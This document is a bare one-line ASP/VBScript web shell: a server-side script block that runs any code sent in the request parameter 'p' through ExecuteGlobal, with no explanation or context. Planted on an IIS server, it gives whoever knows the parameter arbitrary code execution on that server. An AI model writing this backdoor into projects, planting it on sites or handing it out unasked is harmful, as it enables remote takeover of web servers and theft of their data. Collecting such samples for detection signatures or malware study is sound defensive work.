<script language="vbscript" runat="server">
ExecuteGlobal(Request.Item("p"))
</script>
